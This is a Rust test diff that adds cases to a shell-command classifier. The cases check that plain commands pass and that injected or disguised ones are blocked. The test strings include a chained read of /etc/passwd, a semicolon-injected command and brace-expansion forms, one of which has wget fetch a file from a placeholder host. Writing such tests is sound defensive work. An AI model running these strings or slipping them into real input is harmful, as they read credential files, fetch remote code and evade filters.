@@ -222,6 +222,11 @@ fn pasted_lines() {
         passes(Class::Command, text);
     }
     blocks(Class::Command, "npm i; cat /etc/passwd", "reading sensitive-file");
+    passes(Class::Command, "df -h");
+    passes(Class::Command, "{\"a\":1,\"b\":2}");
+    blocks(Class::Command, ";df -h", "listing");
+    blocks(Class::Command, "{wget,http://a.example/x,-O,/tmp/x}", "network host brace-list");
+    blocks(Class::Command, "{ls,-la}", "listing brace-list");
     blocks(Class::Command, "touch /tmp/x", "system path");
     blocks(
         Class::Command,
